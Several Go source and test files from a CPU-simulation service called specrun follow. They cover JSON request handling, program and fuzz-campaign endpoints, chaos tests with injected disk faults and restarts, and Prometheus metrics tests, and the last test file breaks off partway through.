const maxBodyBytes = 1 << 20

// decodeBody strictly decodes an optional JSON body; an empty body leaves
// v at its zero value (the endpoint's defaults).  Bodies over maxBodyBytes
// surface as *http.MaxBytesError — writeBodyError maps them to 413.
func decodeBody(w http.ResponseWriter, r *http.Request, v any) error {
	dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxBodyBytes))
	dec.DisallowUnknownFields()
	if err := dec.Decode(v); err != nil && !errors.Is(err, io.EOF) {
		return err
	}
	return nil
}

// writeBodyError maps a decodeBody failure onto its status: 413 for a body
// over the limit, 400 for anything else.
func writeBodyError(w http.ResponseWriter, err error) {
	var mbe *http.MaxBytesError
	if errors.As(err, &mbe) {
		writeError(w, http.StatusRequestEntityTooLarge, "request body exceeds %d bytes", mbe.Limit)
		return
	}
	writeError(w, http.StatusBadRequest, "bad request body: %v", err)
}

// writeBody writes a pre-encoded JSON body with the cache disposition.
func writeBody(w http.ResponseWriter, body []byte, hit bool) {
	w.Header().Set("Content-Type", "application/json")
	if hit {
		w.Header().Set("X-Cache", "HIT")
	} else {
		w.Header().Set("X-Cache", "MISS")
	}
	w.Write(body)
}

// writeJSON encodes v canonically and writes it with the given status.
func writeJSON(w http.ResponseWriter, status int, v any) {
	body, err := Encode(v)
	if err != nil {
		writeError(w, http.StatusInternalServerError, "encode: %v", err)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	w.Write(body)
}

// writeError emits a JSON error document.
func writeError(w http.ResponseWriter, status int, format string, args ...any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(map[string]string{"error": fmt.Sprintf(format, args...)})
}
