package server

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"specrun/internal/faultinject"
)

// chaosSpec is the campaign the chaos suite runs everywhere: big enough to
// be killed mid-flight, small enough to finish in test time, and — like
// every campaign — a deterministic function of its spec.
const chaosSpec = `{"fuzz": {"seeds": 500, "len": 40, "workers": 2}}`

func chaosServer(t *testing.T, dir string) (*Server, *httptest.Server) {
	t.Helper()
	s := New(Options{
		Workers:       2,
		DataDir:       dir,
		SchedInterval: 20 * time.Millisecond,
		Logger:        slog.New(slog.DiscardHandler),
	})
	ts := httptest.NewServer(s.Handler())
	return s, ts
}

// TestChaosCrashRestartByteIdentity is the PR's central robustness claim:
// with fault injection corrupting disk writes, fsyncs and journal appends,
// and the server process "killed" mid-campaign and restarted over the same
// data dir, the finished job's report is byte-identical to a clean run on a
// pristine server — at-least-once execution of deterministic simulations
// collapses to exactly-once results.
func TestChaosCrashRestartByteIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("full chaos campaign; CI runs it as a dedicated step")
	}
	// Reference: a faultless, memoryless run of the same campaign.
	_, refTS := newTestServer(t)
	var refReq map[string]json.RawMessage
	if err := json.Unmarshal([]byte(chaosSpec), &refReq); err != nil {
		t.Fatal(err)
	}
	code, _, ref := do(t, "POST", refTS.URL+"/v1/run/fuzz", string(refReq["fuzz"]))
	if code != http.StatusOK {
		t.Fatalf("reference run: %d %s", code, ref)
	}

	// Chaos plan: deterministic seed, storage-layer faults firing roughly
	// one hit in four.  Correctness must not depend on any of these IOs.
	faultinject.Enable(faultinject.Config{
		Seed: 42,
		Points: map[faultinject.Point]faultinject.PointConfig{
			faultinject.DiskWrite:    {First: 1, Rate: 4},
			faultinject.DiskRead:     {Rate: 4},
			faultinject.Fsync:        {Rate: 4},
			faultinject.JournalWrite: {Rate: 8},
		},
	})
	defer faultinject.Disable()

	dir := t.TempDir()
	s1, ts1 := chaosServer(t, dir)
	code, _, body := do(t, "POST", ts1.URL+"/v1/jobs", chaosSpec)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	// Let the campaign get properly under way, then crash the server.
	waitFor(t, "campaign progress before crash", func() bool {
		v := mustView(t, ts1.URL, view.ID)
		return v.Progress.Done > 0 || terminalJobStatus(v.Status)
	})
	ts1.Close()
	s1.Close()

	// Restart over the same data dir: the journaled lease is reclaimed and
	// the job re-queued with its attempt counted.
	s2, ts2 := chaosServer(t, dir)
	if v, ok := s2.jobs.get(view.ID); !ok {
		t.Fatal("job lost across restart")
	} else if terminalJobStatus(v.Status) && v.Status != JobDone {
		t.Fatalf("job restored as %+v", v)
	}
	final := pollJob(t, ts2.URL, view.ID)
	if final.Status != JobDone {
		t.Fatalf("after restart: %+v", final)
	}
	code, _, got := do(t, "GET", ts2.URL+"/v1/jobs/"+view.ID+"/result", "")
	if code != http.StatusOK {
		t.Fatalf("result: %d %s", code, got)
	}
	if string(got) != string(ref) {
		t.Fatalf("chaos result diverged from clean run:\n chaos: %.200s...\n clean: %.200s...", got, ref)
	}
	if faultinject.Fired() == 0 {
		t.Fatal("fault plan never fired — the chaos run was not actually chaotic")
	}
	// More traffic while faults still fire, until at least one entry lands
	// on disk — failed writes stay memory-only, successful ones must verify.
	for i := 0; i < 12; i++ {
		if d := s2.cache.Stats().Disk; d != nil && d.Writes > 0 {
			break
		}
		req := fmt.Sprintf(`{"config": {"rob_size": %d}}`, 64+16*i)
		if code, _, b := do(t, "POST", ts2.URL+"/v1/run/fig9", req); code != http.StatusOK {
			t.Fatalf("run under faults: %d %s", code, b)
		}
	}
	if d := s2.cache.Stats().Disk; d == nil || d.Writes == 0 {
		t.Fatalf("no disk write succeeded under the fault plan: %+v", s2.cache.Stats().Disk)
	}
	ts2.Close()
	s2.Close()

	// Third boot, faults off: the finished job must be served from the
	// journal/cache without re-running anything.
	faultinject.Disable()
	s3, ts3 := chaosServer(t, dir)
	defer s3.Close()
	defer ts3.Close()
	code, _, got3 := do(t, "GET", ts3.URL+"/v1/jobs/"+view.ID+"/result", "")
	if code != http.StatusOK || string(got3) != string(ref) {
		t.Fatalf("third boot result: %d (identical=%v)", code, string(got3) == string(ref))
	}
	if n := s3.simulations.Load(); n != 0 {
		t.Fatalf("third boot ran %d simulations to serve a journaled result", n)
	}

	// Finally, the data dir itself must be clean: despite the injected
	// write/fsync failures, atomic tmp+rename means every entry that made
	// it into the cache directory verifies, and nothing was quarantined.
	verifyDiskEntries(t, filepath.Join(dir, "cache"))
}

// verifyDiskEntries checks every persisted cache entry against its embedded
// checksum and asserts the quarantine directory is empty.
func verifyDiskEntries(t *testing.T, cacheDir string) {
	t.Helper()
	entries, err := os.ReadDir(cacheDir)
	if err != nil {
		t.Fatalf("cache dir unreadable: %v", err)
	}
	var files int
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		raw, err := os.ReadFile(filepath.Join(cacheDir, e.Name()))
		if err != nil {
			t.Fatalf("read %s: %v", e.Name(), err)
		}
		if len(raw) < sha256.Size {
			t.Fatalf("entry %s truncated below checksum length", e.Name())
		}
		if sha256.Sum256(raw[sha256.Size:]) != [sha256.Size]byte(raw[:sha256.Size]) {
			t.Fatalf("entry %s fails checksum verification", e.Name())
		}
		files++
	}
	if files == 0 {
		t.Fatal("no cache entries survived the chaos run")
	}
	if quar, err := os.ReadDir(filepath.Join(cacheDir, "quarantine")); err == nil && len(quar) > 0 {
		t.Fatalf("%d entries quarantined during the chaos run", len(quar))
	}
}

// TestRestartServesFromDiskCache pins the durability of the cache tier
// itself: a synchronous result computed before a restart is answered
// byte-identically after it, as a disk hit, with no simulation run.
func TestRestartServesFromDiskCache(t *testing.T) {
	dir := t.TempDir()
	s1, ts1 := chaosServer(t, dir)
	code, _, ref := do(t, "POST", ts1.URL+"/v1/run/fig9", "{}")
	if code != http.StatusOK {
		t.Fatalf("run: %d %s", code, ref)
	}
	ts1.Close()
	s1.Close()

	s2, ts2 := chaosServer(t, dir)
	defer s2.Close()
	defer ts2.Close()
	code, hdr, got := do(t, "POST", ts2.URL+"/v1/run/fig9", "{}")
	if code != http.StatusOK || string(got) != string(ref) {
		t.Fatalf("after restart: %d (identical=%v)", code, string(got) == string(ref))
	}
	if hdr.Get("X-Cache") != "HIT" {
		t.Fatalf("X-Cache = %q after restart, want HIT", hdr.Get("X-Cache"))
	}
	st := s2.cache.Stats()
	if st.Disk == nil || st.Disk.Hits == 0 {
		t.Fatalf("disk tier did not serve the hit: %+v", st.Disk)
	}
	if n := s2.simulations.Load(); n != 0 {
		t.Fatalf("restarted server re-ran %d simulations for a cached key", n)
	}
}

// TestFaultsInertWhenDisabled proves the chaos harness costs nothing when
// off: with no plan installed every fault point is a no-op and a full
// service round trip fires zero faults.
func TestFaultsInertWhenDisabled(t *testing.T) {
	if faultinject.Active() {
		t.Fatal("a fault plan leaked in from another test")
	}
	before := faultinject.Fired()
	dir := t.TempDir()
	s, ts := chaosServer(t, dir)
	defer s.Close()
	defer ts.Close()
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", "{}"); code != http.StatusOK {
		t.Fatalf("run: %d %s", code, body)
	}
	if got := faultinject.Fired() - before; got != 0 {
		t.Fatalf("%d faults fired with no plan installed", got)
	}
	if st := s.cache.Stats(); st.Disk == nil || st.Disk.Writes == 0 || st.Disk.WriteErrors != 0 {
		t.Fatalf("disk tier unhealthy without faults: %+v", st.Disk)
	}
}

// TestJobStallLeaseRecovery injects an artificial stall long enough to
// expire the lease and proves the watchdog reclaims and the retry attempt
// completes the job.
func TestJobStallLeaseRecovery(t *testing.T) {
	faultinject.Enable(faultinject.Config{
		Seed: 7,
		Points: map[faultinject.Point]faultinject.PointConfig{
			faultinject.JobStall: {First: 1}, // exactly the first attempt stalls
		},
		StallFor: 10 * time.Second,
	})
	defer faultinject.Disable()

	s := New(Options{
		Workers:       2,
		LeaseTTL:      time.Second,
		SchedInterval: 20 * time.Millisecond,
		Retry:         RetryPolicy{BaseDelay: 10 * time.Millisecond, Jitter: -1},
		Logger:        slog.New(slog.DiscardHandler),
	})
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		ts.Close()
		s.Close()
	})

	// Warm the cache first: the retried attempt then completes instantly,
	// so the test exercises stall → expiry → reclaim → retry, not raw
	// simulation speed against the lease clock.
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", "{}"); code != http.StatusOK {
		t.Fatalf("warm run: %d %s", code, body)
	}

	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", `{"driver": "fig9"}`)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	final := pollJob(t, ts.URL, view.ID)
	if final.Status != JobDone || final.Attempts < 2 {
		t.Fatalf("stalled job did not recover via retry: %+v", final)
	}
	if st := s.jobs.stats(); st.LeaseExpiries == 0 {
		t.Fatalf("no lease expiry recorded: %+v", st)
	}
}
