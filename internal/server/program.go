package server

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strconv"

	"specrun/internal/asm"
	"specrun/internal/core"
	"specrun/internal/cpu"
	"specrun/internal/prog"
	"specrun/internal/sweep"
)

// maxProgramCycles bounds the per-request cycle budget a submitted program
// may ask for.
const maxProgramCycles = 4 * core.DefaultProgramBudget

// ProgramRequest is the body of POST /v1/run/program (and the program arm
// of POST /v1/jobs): an arbitrary program in interchange form — assembly
// text or the canonical .sprog binary (base64 in JSON) — plus an optional
// partial config overlay and cycle budget.  Exactly one of asm/binary must
// be set.
type ProgramRequest struct {
	Config    json.RawMessage `json:"config,omitempty"`
	Asm       string          `json:"asm,omitempty"`
	Binary    []byte          `json:"binary,omitempty"`
	MaxCycles uint64          `json:"max_cycles,omitempty"` // 0 = core.DefaultProgramBudget
}

// ProgramResponse is the body of POST /v1/run/program.
type ProgramResponse struct {
	Sprog string    `json:"sprog_sha256"` // content address of the canonical binary
	Insts int       `json:"insts"`
	Base  uint64    `json:"base"`
	Stats cpu.Stats `json:"stats"`
}

// resolvedProgram is a validated submission: the decoded program, its
// canonical binary (the content address — identical for asm and binary
// submissions of the same program), the normalized config and the effective
// budget.
type resolvedProgram struct {
	cfg    core.Config
	prog   *asm.Program
	bin    []byte
	budget uint64
	format string // submission format, for the metrics label: "asm" or "binary"
}

// resolve validates a submission.  Whatever the input form, the program is
// funnelled through the canonical binary codec, so validation limits
// (instruction/data/symbol bounds, canonical instructions) apply uniformly
// and the cache key depends only on program identity.
func (r ProgramRequest) resolve() (resolvedProgram, error) {
	out := resolvedProgram{format: "binary"}
	if r.Asm != "" {
		out.format = "asm"
	}
	switch {
	case r.Asm == "" && len(r.Binary) == 0:
		return out, fmt.Errorf("program: one of asm or binary is required")
	case r.Asm != "" && len(r.Binary) > 0:
		return out, fmt.Errorf("program: asm and binary are mutually exclusive")
	case r.Asm != "":
		p, err := asm.Parse("request", r.Asm)
		if err != nil {
			return out, err
		}
		bin, err := prog.Encode(p)
		if err != nil {
			return out, err
		}
		out.prog, out.bin = p, bin
	default:
		p, err := prog.Decode(r.Binary)
		if err != nil {
			return out, err
		}
		out.prog, out.bin = p, r.Binary
	}
	if len(out.prog.Insts) == 0 {
		return out, fmt.Errorf("program: no instructions")
	}
	out.budget = r.MaxCycles
	if out.budget == 0 {
		out.budget = core.DefaultProgramBudget
	}
	if out.budget > maxProgramCycles {
		return out, fmt.Errorf("program: max_cycles %d exceeds limit %d", r.MaxCycles, maxProgramCycles)
	}
	cfg := core.DefaultConfig()
	if len(r.Config) > 0 {
		if err := strictUnmarshal(r.Config, &cfg); err != nil {
			return out, fmt.Errorf("config: %w", err)
		}
	}
	cfg = core.Normalize(cfg)
	if err := core.Validate(cfg); err != nil {
		return out, err
	}
	out.cfg = cfg
	return out, nil
}

// cacheKey content-addresses the run by the canonical program bytes — not
// the Go structs and not the submission format — so identical programs
// submitted as asm and as binary coalesce onto one cache entry.
func (rp resolvedProgram) cacheKey() (string, error) {
	return core.HashKey("program", rp.bin, core.Normalize(rp.cfg), rp.budget)
}

// runProgram executes a resolved submission under the server-wide worker
// budget; like other single-simulation paths it bypasses the sweep engine
// and acquires the context gate itself.
func (s *Server) runProgram(ctx context.Context, rp resolvedProgram, onProgress func(cycles, budget uint64)) (ProgramResponse, error) {
	if g := sweep.GateFrom(ctx); g != nil {
		if err := g.Acquire(ctx); err != nil {
			return ProgramResponse{}, err
		}
		defer g.Release()
	}
	st, err := core.RunProgramStatsCtx(ctx, rp.cfg, rp.prog, rp.budget, onProgress)
	if err != nil {
		return ProgramResponse{}, err
	}
	return ProgramResponse{
		Sprog: prog.Hash(rp.bin),
		Insts: len(rp.prog.Insts),
		Base:  rp.prog.Base,
		Stats: st,
	}, nil
}

func (s *Server) handleRunProgram(w http.ResponseWriter, r *http.Request) {
	var req ProgramRequest
	if err := decodeBody(w, r, &req); err != nil {
		s.metrics.programSubs.With("unknown", "invalid").Inc()
		writeBodyError(w, err)
		return
	}
	rp, err := req.resolve()
	if err != nil {
		s.metrics.programSubs.With(rp.format, "invalid").Inc()
		writeError(w, http.StatusBadRequest, "%v", err)
		return
	}
	key, err := rp.cacheKey()
	if err != nil {
		writeError(w, http.StatusInternalServerError, "cache key: %v", err)
		return
	}
	body, hit, err := s.cache.Do(r.Context(), key, func() ([]byte, error) {
		s.simulations.Add(1)
		res, err := s.runProgram(s.simCtx(), rp, nil)
		if err != nil {
			return nil, err
		}
		return Encode(res)
	})
	if err != nil {
		s.metrics.programSubs.With(rp.format, "error").Inc()
		writeError(w, http.StatusInternalServerError, "program: %v", err)
		return
	}
	s.metrics.programSubs.With(rp.format, "ok").Inc()
	writeBody(w, body, hit)
}

// runProgramJob executes a program submission asynchronously with
// megacycle-granularity progress (the SSE stream's event source), sharing
// the result cache with the synchronous endpoint.
func (s *Server) runProgramJob(ctx context.Context, id string, attempt int, rp resolvedProgram) {
	const mega = 1_000_000
	key, err := rp.cacheKey()
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	s.jobs.progress(id, attempt, 0, int(rp.budget/mega))
	if body, ok := s.cache.Get(key); ok {
		s.metrics.programSubs.With(rp.format, "ok").Inc()
		s.jobs.finish(id, attempt, key, body, "", false)
		return
	}
	s.simulations.Add(1)
	res, err := s.runProgram(sweep.WithGate(ctx, s.gate), rp, func(cycles, budget uint64) {
		s.jobs.progress(id, attempt, int(cycles/mega), int(budget/mega))
	})
	if err != nil {
		s.metrics.programSubs.With(rp.format, "error").Inc()
		s.jobs.finish(id, attempt, "", nil, err.Error(), errors.Is(err, context.Canceled))
		return
	}
	body, err := Encode(res)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	s.cache.Add(key, body)
	s.metrics.programSubs.With(rp.format, "ok").Inc()
	s.jobs.finish(id, attempt, key, body, "", false)
}

// handleJobEvents streams a job's lifecycle as Server-Sent Events
// (GET /v1/jobs/{id}/events): "progress" events carrying the job view while
// it runs, then exactly one terminal event named after the final status
// (done / failed / cancelled), then the stream closes.  Event payloads omit
// the result body — clients fetch GET /v1/jobs/{id}/result once done.
//
// Every event carries a monotonic per-job id, so a client that reconnects
// with Last-Event-ID never sees the terminal event twice: a reconnect after
// the terminal id yields an immediately-closed, empty stream, while a
// reconnect that missed the terminal event replays it.
func (s *Server) handleJobEvents(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	ch, stop, ok := s.jobs.watch(id)
	if !ok {
		writeError(w, http.StatusNotFound, "unknown job %q", id)
		return
	}
	defer stop()

	lastID := -1
	if v := r.Header.Get("Last-Event-ID"); v != "" {
		if n, err := strconv.Atoi(v); err == nil {
			lastID = n
		}
	}

	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-cache")
	w.WriteHeader(http.StatusOK)
	fl, _ := w.(http.Flusher)
	s.sseActive.Add(1)
	defer s.sseActive.Add(-1)

	send := func(event string, seq int, v JobView) bool {
		v.Result = nil
		b, err := json.Marshal(v)
		if err != nil {
			return false
		}
		if _, err := fmt.Fprintf(w, "id: %d\nevent: %s\ndata: %s\n\n", seq, event, b); err != nil {
			return false
		}
		if fl != nil {
			fl.Flush()
		}
		return true
	}

	// Immediate snapshot, so a subscriber sees state without waiting for
	// the next progress update.
	if view, seq, live := s.jobs.viewSeq(id); live && !terminalJobStatus(view.Status) && seq > lastID {
		if !send("progress", seq, view) {
			return
		}
	}
	for {
		select {
		case <-r.Context().Done():
			return
		case ev, open := <-ch:
			if !open {
				// Terminal: emit the final view under its status name,
				// unless the client already received it (Last-Event-ID).
				if final, seq, live := s.jobs.viewSeq(id); live && seq > lastID {
					send(final.Status, seq, final)
				}
				return
			}
			if !terminalJobStatus(ev.View.Status) && !send("progress", ev.Seq, ev.View) {
				return
			}
		}
	}
}

// terminalJobStatus reports whether a wire status is terminal.
func terminalJobStatus(status string) bool {
	return status != JobRunning && status != JobPending
}
