package server

import "encoding/json"

// Encode renders v in the canonical wire encoding shared by the HTTP API,
// the result cache and the CLI's --format json: two-space-indented JSON
// with a trailing newline.  Every consumer goes through this one function,
// so a cached response body, a fresh response body and CLI output for the
// same result are byte-identical.
func Encode(v any) ([]byte, error) {
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(b, '\n'), nil
}

// Decode parses a document produced by [Encode] back into v.
func Decode(data []byte, v any) error { return json.Unmarshal(data, v) }
