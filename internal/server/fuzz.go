package server

import (
	"context"
	"errors"
	"fmt"
	"net/http"

	"specrun/internal/core"
	"specrun/internal/difftest"
	"specrun/internal/leak"
	"specrun/internal/sweep"
)

// FuzzRequest is the body of POST /v1/run/fuzz (and the Fuzz arm of
// POST /v1/jobs): a differential fuzzing campaign specification plus the
// execution-only worker count.  An empty body runs the default campaign
// (1000 seeds, quick matrix).
type FuzzRequest struct {
	difftest.CampaignSpec
	Workers int `json:"workers,omitempty"` // worker goroutines (0 = GOMAXPROCS); never part of the cache key
}

// resolve validates and normalises the campaign, bounding it so a hostile
// document cannot request unbounded simulation.
func (r FuzzRequest) resolve() (difftest.CampaignSpec, error) {
	spec := r.CampaignSpec.WithDefaults()
	if spec.Seeds < 1 || spec.Seeds > 1<<16 {
		return spec, fmt.Errorf("fuzz: seeds %d out of range (1..%d)", spec.Seeds, 1<<16)
	}
	if spec.Len < 1 || spec.Len > 1<<12 {
		return spec, fmt.Errorf("fuzz: len %d out of range (1..%d)", spec.Len, 1<<12)
	}
	if _, err := spec.Configs(); err != nil {
		return spec, err
	}
	if spec.Leaks && spec.Interleave {
		return spec, fmt.Errorf("fuzz: leaks and interleave are mutually exclusive oracles")
	}
	return spec, nil
}

// runCampaign dispatches the spec to its engine: the microarchitectural
// leak oracle for Leaks specs, the architectural differential oracle
// otherwise.  Both reports are deterministic and Encode the same way, so
// the caching and job plumbing stay engine-agnostic.
func runCampaign(ctx context.Context, spec difftest.CampaignSpec, opt sweep.Options) (any, int, error) {
	if spec.Leaks {
		rep, err := leak.Run(ctx, spec, opt)
		return rep, rep.Configs, err
	}
	rep, err := difftest.Run(ctx, spec, opt)
	return rep, rep.Configs, err
}

// handleFuzz serves POST /v1/run/fuzz.  Campaign reports are deterministic
// functions of their spec, so they cache content-addressed exactly like the
// figure drivers.
func (s *Server) handleFuzz(w http.ResponseWriter, r *http.Request) {
	var req FuzzRequest
	if err := decodeBody(w, r, &req); err != nil {
		writeBodyError(w, err)
		return
	}
	spec, err := req.resolve()
	if err != nil {
		writeError(w, http.StatusBadRequest, "%v", err)
		return
	}
	key, err := core.HashKey("fuzz", spec)
	if err != nil {
		writeError(w, http.StatusInternalServerError, "cache key: %v", err)
		return
	}
	body, hit, err := s.cache.Do(r.Context(), key, func() ([]byte, error) {
		s.simulations.Add(1)
		rep, _, runErr := runCampaign(s.simCtx(), spec, sweep.Options{Workers: req.Workers})
		if runErr != nil {
			// A cancelled campaign holds partial rows — transient state that
			// must not become the permanent entry for this key.
			return nil, runErr
		}
		return Encode(rep)
	})
	if err != nil {
		writeError(w, http.StatusInternalServerError, "fuzz: %v", err)
		return
	}
	writeBody(w, body, hit)
}

// runFuzzJob executes a campaign asynchronously with per-seed progress,
// sharing the result cache with the synchronous endpoint.
func (s *Server) runFuzzJob(ctx context.Context, id string, attempt int, req FuzzRequest) {
	spec, err := req.resolve()
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	key, err := core.HashKey("fuzz", spec)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	if body, ok := s.cache.Get(key); ok {
		s.jobs.finish(id, attempt, key, body, "", false)
		return
	}
	s.simulations.Add(1)
	rep, configs, runErr := runCampaign(sweep.WithGate(ctx, s.gate), spec, sweep.Options{
		Workers:    req.Workers,
		OnProgress: func(done, total int) { s.jobs.progress(id, attempt, done, total) },
	})
	if runErr != nil {
		cancelled := errors.Is(runErr, context.Canceled)
		// A cancelled campaign still carries the findings found so far —
		// store the partial report on the job (like cancelled sweeps do)
		// without letting it become the permanent cache entry.
		if cancelled && configs > 0 {
			if body, encErr := Encode(rep); encErr == nil {
				s.jobs.finish(id, attempt, "", body, "", true)
				return
			}
		}
		s.jobs.finish(id, attempt, "", nil, runErr.Error(), cancelled)
		return
	}
	body, err := Encode(rep)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	s.cache.Add(key, body)
	s.jobs.finish(id, attempt, key, body, "", false)
}
