package server

import (
	"bytes"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"specrun/internal/metrics"
)

// TestMetricsEndpoint drives real traffic through the service and then
// requires GET /metrics to return valid Prometheus exposition covering
// every advertised family, with the request/cache counters reflecting that
// traffic.
func TestMetricsEndpoint(t *testing.T) {
	_, ts := newTestServer(t)

	// One miss, one hit on the same key; one 404; one async job to
	// completion — so requests, cache, jobs and sim-cycle families all have
	// real values to export.
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", "{}"); code != http.StatusOK {
		t.Fatalf("run: %d %s", code, body)
	}
	if code, hdr, _ := do(t, "POST", ts.URL+"/v1/run/fig9", "{}"); code != http.StatusOK || hdr.Get("X-Cache") != "HIT" {
		t.Fatalf("second run: %d, X-Cache=%q", code, hdr.Get("X-Cache"))
	}
	do(t, "POST", ts.URL+"/v1/run/nope", "{}")
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", `{"driver": "fig9"}`)
	if code != http.StatusAccepted {
		t.Fatalf("job submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	waitJob(t, ts.URL, view.ID)

	code, hdr, body := do(t, "GET", ts.URL+"/metrics", "")
	if code != http.StatusOK {
		t.Fatalf("/metrics: %d %s", code, body)
	}
	if ct := hdr.Get("Content-Type"); ct != "text/plain; version=0.0.4; charset=utf-8" {
		t.Fatalf("content type %q", ct)
	}
	if err := metrics.Lint(bytes.NewReader(body)); err != nil {
		t.Fatalf("exposition invalid: %v\n%s", err, body)
	}
	out := string(body)
	for _, family := range []string{
		"specrun_http_requests_total",
		"specrun_http_request_duration_seconds",
		"specrun_http_requests_served_total",
		"specrun_jobs_total",
		"specrun_jobs_running",
		"specrun_cache_hits_total",
		"specrun_cache_misses_total",
		"specrun_cache_evictions_total",
		"specrun_cache_singleflight_merges_total",
		"specrun_gate_capacity",
		"specrun_gate_in_flight",
		"specrun_gate_queued",
		"specrun_gate_wait_seconds",
		"specrun_machine_pool_hits_total",
		"specrun_machine_pool_misses_total",
		"specrun_machine_pool_evictions_total",
		"specrun_simulations_total",
		"specrun_sim_cycles_total",
		"specrun_uptime_seconds",
		"go_goroutines",
	} {
		if !strings.Contains(out, "# TYPE "+family+" ") {
			t.Errorf("missing family %s", family)
		}
	}
	for _, sample := range []string{
		`specrun_http_requests_total{route="POST /v1/run/{driver}",method="POST",code="200"} 2`,
		`specrun_http_requests_total{route="POST /v1/run/{driver}",method="POST",code="404"} 1`,
		`specrun_jobs_total{kind="fig9",status="done"} 1`,
	} {
		if !strings.Contains(out, sample) {
			t.Errorf("missing sample %q in:\n%s", sample, out)
		}
	}
	// Real traffic ran simulations: the derived counters must be nonzero.
	for _, prefix := range []string{"specrun_cache_hits_total ", "specrun_cache_misses_total ", "specrun_sim_cycles_total "} {
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(line, prefix) && strings.HasSuffix(line, " 0") {
				t.Errorf("%s is zero after traffic", strings.TrimSpace(prefix))
			}
		}
	}
}

// waitJob polls until the job leaves JobRunning.
func waitJob(t *testing.T, base, id string) JobView {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		_, _, body := do(t, "GET", base+"/v1/jobs/"+id, "")
		var v JobView
		if err := json.Unmarshal(body, &v); err != nil {
			t.Fatal(err)
		}
		if v.Status != JobRunning && v.Status != JobPending {
			return v
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s still running", id)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestStatsRuntimeSection pins the runtime block of GET /v1/stats.
func TestStatsRuntimeSection(t *testing.T) {
	_, ts := newTestServer(t)
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", "{}"); code != http.StatusOK {
		t.Fatalf("run: %d %s", code, body)
	}
	code, _, body := do(t, "GET", ts.URL+"/v1/stats", "")
	if code != http.StatusOK {
		t.Fatalf("stats: %d %s", code, body)
	}
	var resp StatsResponse
	if err := json.Unmarshal(body, &resp); err != nil {
		t.Fatal(err)
	}
	rt := resp.Runtime
	if rt.UptimeSeconds <= 0 {
		t.Errorf("uptime = %v", rt.UptimeSeconds)
	}
	if rt.Goroutines <= 0 {
		t.Errorf("goroutines = %d", rt.Goroutines)
	}
	if rt.HeapInuseBytes == 0 {
		t.Error("heap_inuse_bytes = 0")
	}
	if rt.GateInFlight != 0 || rt.GateQueued != 0 {
		t.Errorf("idle gate reports in_flight=%d queued=%d", rt.GateInFlight, rt.GateQueued)
	}
	if resp.SimCycles == 0 {
		t.Error("sim_cycles = 0 after a simulation")
	}
	// The wire names are part of the API: decode raw to pin them.
	var raw map[string]json.RawMessage
	if err := json.Unmarshal(body, &raw); err != nil {
		t.Fatal(err)
	}
	var rtRaw map[string]json.RawMessage
	if err := json.Unmarshal(raw["runtime"], &rtRaw); err != nil {
		t.Fatalf("no runtime section: %v", err)
	}
	for _, k := range []string{"uptime_seconds", "goroutines", "heap_inuse_bytes",
		"gc_count", "gc_pause_total_seconds", "gate_in_flight", "gate_queued"} {
		if _, ok := rtRaw[k]; !ok {
			t.Errorf("runtime section missing %q", k)
		}
	}
}

// collectHandler buffers slog records for assertion.
type logSink struct {
	mu    sync.Mutex
	lines []map[string]any
}

func (l *logSink) add(rec map[string]any) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.lines = append(l.lines, rec)
}

func (l *logSink) find(msg string, match func(map[string]any) bool) map[string]any {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, rec := range l.lines {
		if rec["msg"] == msg && match(rec) {
			return rec
		}
	}
	return nil
}

// TestRequestAndJobLogging runs the service with a JSON slog sink and
// checks the request and job lifecycle records: method, path, route,
// status, duration, cache disposition and job ids.
func TestRequestAndJobLogging(t *testing.T) {
	var sink logSink
	pump := &jsonDecodePump{sink: &sink}

	s := New(Options{Logger: slog.New(slog.NewJSONHandler(pump, nil))})
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		ts.Close()
		s.Close()
	})

	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", "{}"); code != http.StatusOK {
		t.Fatalf("run: %d %s", code, body)
	}
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", `{"driver": "fig9"}`)
	if code != http.StatusAccepted {
